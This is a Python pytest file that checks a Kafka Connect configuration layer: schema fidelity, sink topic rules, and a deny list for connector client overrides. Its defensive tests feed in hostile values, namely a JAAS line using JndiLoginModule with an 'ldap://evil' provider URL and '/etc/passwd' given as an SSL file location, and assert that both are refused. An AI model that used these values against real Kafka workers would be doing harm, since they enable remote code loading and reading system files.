"""What the runtime gives to every connector, and what a connector may set of its Kafka clients."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from cdc.config.definition import Definition, InvalidConfig
from cdc.config.postgres import POSTGRES
from cdc.config.property import Property, Status, Type
from cdc.config.worker_clients import TABLES
from cdc.connect.client_overrides import ALLOWED
from cdc.connect.connector_properties import LOOKS, for_pipeline, for_sink, for_source

GOLDEN = Path(__file__).resolve().parents[2] / "golden" / "connect-rest.jsonl"
NOTHING = Definition(())
SOURCE = {"name": "n", "connector.class": "C"}
SINK = {**SOURCE, "topics": "a"}
PLAIN = "org.apache.kafka.common.security.plain.PlainLoginModule"


def recorded():
    """What Kafka Connect 4.3.1 has for every source connector."""
    for line in GOLDEN.read_text().splitlines():
        call = json.loads(line)
        if call["path"] == "/connector-plugins/FileStreamSource/config":
            return {row["name"]: row for row in call["answer"] if row["group"]}
    raise AssertionError("the recording has no such call")


def problems(definition, raw):
    with pytest.raises(InvalidConfig) as caught:
        definition.parse(raw)
    assert all(problem.remedy for problem in caught.value.problems)
    return {problem.name: problem.fact for problem in caught.value.problems}


def refused(name, text="x", policy="All"):
    """Return why a connector may not set something, and the remedy."""
    with pytest.raises(InvalidConfig) as caught:
        for_source(NOTHING, policy).parse({**SOURCE, name: text})
    (problem,) = caught.value.problems
    assert problem.name == name
    return problem.sentence()


def test_a_source_has_connects_properties_in_connects_order():
    ours = [row.name for row in for_source(NOTHING).properties if not row.name.startswith("errors.deadletterqueue.")]
    assert ours == list(recorded())


@pytest.mark.parametrize("name", recorded())
def test_a_property_has_the_type_default_importance_group_and_look_of_connect(name):
    theirs, row = recorded()[name], for_source(NOTHING).find(name)
    assert row is not None
    default = theirs["default_value"]
    if not name.endswith(".version"):
        assert (row.default if isinstance(row.default, str) else None) == default
    assert (row.type, row.required, row.importance) == (theirs["type"], theirs["required"], theirs["importance"])
    look = LOOKS[name]
    assert row.group == theirs["group"]
    assert (look.order, look.width, look.display_name) == (
        theirs["order_in_group"],
        theirs["width"],
        theirs["display_name"],
    )


def test_a_sink_has_topics_and_a_dead_letter_queue():
    names = [row.name for row in for_sink(NOTHING).properties]
    assert {"topics", "topics.regex", "errors.deadletterqueue.topic.name"} <= set(names)
    assert not {"topic.creation.groups", "exactly.once.support", "offsets.storage.topic"} & set(names)


def test_what_nothing_reads_is_planned_or_without_effect():
    rows = for_source(NOTHING).properties
    planned = [row.name for row in rows if row.status is Status.PLANNED]
    assert planned == ["topic.creation.groups", "transaction.boundary.interval.ms"]
    replicas = "errors.deadletterqueue.topic.replication.factor"
    assert [row.name for row in rows if row.status is Status.WITHOUT_EFFECT and row.name.startswith("errors")] == [
        replicas
    ]
    assert replicas in [row.name for row in for_sink(NOTHING).properties if row.status is Status.SUPPORTED]


def test_a_connector_may_only_set_what_its_client_takes():
    for client, names in ALLOWED.items():
        assert names <= TABLES[client].keys()


def test_the_rows_of_the_runtime_come_before_those_of_the_connector():
    own = Definition((Property("errors.tolerance", Type.INT, "7", "Mine."), Property("mine", Type.INT, "7", "Mine.")))
    config = for_source(own).parse(SOURCE)
    assert (config["errors.tolerance"], config["mine"]) == ("none", 7)


def test_a_table_that_has_everything_can_be_joined():
    assert for_source(POSTGRES).find("database.hostname") == POSTGRES.find("database.hostname")


@pytest.mark.parametrize(
    ("raw", "fact"),
    [
        ({"topics": ""}, "Must configure one of topics or topics.regex"),
        (
            {"topics.regex": "a.*"},
            "topics and topics.regex are mutually exclusive options, but both are set",
        ),
        (
            {"topics": "a,b", "errors.deadletterqueue.topic.name": "b"},
            "The DLQ topic 'b' may not be included in the list of topics ('topics=[a, b]') consumed by the connector",
        ),
    ],
)
def test_a_sink_reads_one_kind_of_topics_and_not_its_own_dead_letters(raw, fact):
    found = problems(for_sink(NOTHING), {**SINK, **raw})
    assert set(found.values()) == {fact}
    assert for_sink(NOTHING).parse({**SOURCE, "topics.regex": r"shop\..*"}).list("topics") == ()


def test_a_pattern_must_not_match_the_dead_letters_and_has_case():
    raw = {**SOURCE, "topics.regex": "shop.*", "errors.deadletterqueue.topic.name": "shop-dead"}
    assert problems(for_sink(NOTHING), raw) == {
        "topics.regex": "The DLQ topic 'shop-dead' may not be matched by the regex for the topics"
        " ('topics.regex=shop.*') consumed by the connector"
    }
    assert for_sink(NOTHING).parse({**raw, "errors.deadletterqueue.topic.name": "Shop-dead"})


def test_a_pattern_that_java_would_refuse_is_refused():
    assert "cannot be used" in problems(for_sink(NOTHING), {**SOURCE, "topics.regex": "("})["topics.regex"]


@pytest.mark.parametrize("client", ["producer", "consumer", "admin"])
@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("bootstrap.servers", "other:9092"),
        ("client.id", "me"),
        ("request.timeout.ms", "1000"),
        ("sasl.jaas.config", f'{PLAIN} required username="u" password="p";'),
        ("sasl.mechanism", "SCRAM-SHA-512"),
        ("ssl.truststore.certificates", "-----BEGIN CERTIFICATE-----"),
    ],
)
def test_what_is_harmless_can_be_set(client, name, text):
    for definition in (for_source(NOTHING), for_sink(NOTHING)):
        raw = {**(SINK if definition.find("topics") else SOURCE), f"{client}.override.{name}": text}
        assert definition.parse(raw).beneath(f"{client}.override.") == {name: text}


@pytest.mark.parametrize(
    ("name", "why"),
    [
        ("sasl.login.callback.handler.class", "it names code to be run"),
        ("sasl.client.callback.handler.class", "it names code to be run"),
        ("sasl.login.class", "it names code to be run"),
        ("ssl.engine.factory.class", "it names code to be run"),
        ("key.serializer.class", "it names code to be run"),
        ("partitioner.class", "it names code to be run"),
        ("interceptor.classes", "it names code to be run"),
        ("metric.reporters", "it names code to be run"),
        ("security.providers", "it names code to be run"),
        ("partition.assignment.strategy", "it names code to be run"),
        ("sasl.oauthbearer.token.endpoint.url", "it names an address or a file"),
        ("sasl.oauthbearer.jwks.endpoint.url", "it names an address or a file"),
        ("sasl.oauthbearer.jwks.endpoint.refresh.ms", "it names an address or a file"),
        ("sasl.oauthbearer.assertion.private.key.file", "it names an address or a file"),
        ("ssl.truststore.location", "it names a file on the worker's machine"),
        ("ssl.keystore.location", "it names a file on the worker's machine"),
        ("ssl.key.location", "it names a file on the worker's machine"),
        ("ssl.ca.location", "it names a file on the worker's machine"),
        ("ssl.provider", "not among the properties that a connector may set"),
        ("sasl.kerberos.kinit.cmd", "not among the properties that a connector may set"),
        ("transactional.id", "not among the properties that a connector may set"),
        ("something.new", "not among the properties that a connector may set"),
    ],
)
@pytest.mark.parametrize("client", ["producer", "consumer", "admin"])
def test_what_runs_code_or_opens_files_and_addresses_is_refused_and_so_is_what_nobody_knows(client, name, why):
    assert why in refused(f"{client}.override.{name}")


@pytest.mark.parametrize(
    "module",
    [
        "com.sun.security.auth.module.JndiLoginModule",
        "com.sun.security.auth.module.LdapLoginModule",
        "org.apache.kafka.common.security.oauthbearer.OAuthBearerLoginModule",
    ],
)
def test_a_login_module_that_could_run_code_is_refused_and_its_line_is_not_repeated(module):
    sentence = refused(
        "producer.override.sasl.jaas.config", f'{module} required user.provider.url="ldap://evil/hunter2";'
    )
    assert module in sentence
    assert "hunter2" not in sentence


def test_no_property_on_the_lists_names_code_a_file_or_an_address():
    words = ("class", "location", "url", "file", "reporter", "interceptor", "provider", "strategy", "handler", "oauth")
    for names in ALLOWED.values():
        assert not [name for name in names if any(word in name for word in words)]


def test_the_values_of_overrides_are_checked_and_the_nearest_name_is_told():
    assert "'soon' is not a whole number" in refused("consumer.override.max.poll.records", "soon")
    assert "is not one of its values" in refused("producer.override.acks", "1")
    assert refused("producer.override.compresion.type").endswith("Did you mean producer.override.compression.type?")


def test_a_connectors_own_table_opens_no_way_round_the_list():
    name = "producer.override.ssl.truststore.location"
    assert POSTGRES.find(name) is not None
    own = Definition((Property("ssl.truststore.location", Type.STRING, None, "x", also=(name,)),))
    assert "it names a file" in problems(for_source(own), {**SOURCE, name: "/etc/passwd"})[name]


def test_a_table_that_has_everything_opens_no_way_round_the_list_either():
    raw = {
        "name": "n",
        "connector.class": "postgres",
        "topic.prefix": "t",
        "database.hostname": "h",
        "database.user": "u",
        "database.dbname": "d",
        "producer.override.compression.type": "lz4",
    }
    definition = for_pipeline(POSTGRES)
    assert definition.parse(raw).beneath("producer.override.") == {"compression.type": "lz4"}
    found = problems(
        definition, {**raw, "producer.override.ssl.ca.location": "/etc/passwd", "snapshot.query.mode": "custom"}
    )
    assert "it names a file" in found["producer.override.ssl.ca.location"]
    assert "is not supported yet" in found["snapshot.query.mode"]
    assert "producer.override.compression.type" in problems(for_pipeline(POSTGRES, "None"), raw)


def test_the_policy_of_the_worker_holds():
    allowed = {**SOURCE, "producer.override.sasl.mechanism": "PLAIN"}
    assert for_source(NOTHING, "Principal").parse(allowed)
    for policy, name in (
        ("None", "producer.override.sasl.mechanism"),
        ("Principal", "producer.override.bootstrap.servers"),
    ):
        expected = f"The '{policy}' policy does not allow '{name}' to be overridden in the connector configuration."
        assert refused(name, "PLAIN", policy).startswith(expected)


@pytest.mark.parametrize(
    ("raw", "name", "fact"),
    [
        ({"topic.creation.default.partitions": "0"}, "topic.creation.default.partitions", "is out of range"),
        ({"topic.creation.enable": "perhaps"}, "topic.creation.enable", "is not a boolean"),
        ({"topic.creation.groups": "hot"}, "topic.creation.groups", "is not supported yet"),
        ({"topic.creation.hot.partitions": "3"}, "topic.creation.hot.partitions", "is not supported yet"),
    ],
)
def test_topics_that_cannot_be_created_so_are_refused(raw, name, fact):
    assert fact in problems(for_source(NOTHING), {**SOURCE, **raw})[name]


def test_topics_are_created_with_kafkas_settings():
    raw = {"topic.creation.default.cleanup.policy": "compact", "topic.creation.default.replication.factor": "-1"}
    config = for_source(NOTHING).parse({**SOURCE, **raw, "topic.creation.groups": ""})
    assert config.beneath("topic.creation.default.") == {"cleanup.policy": "compact", "replication.factor": "-1"}
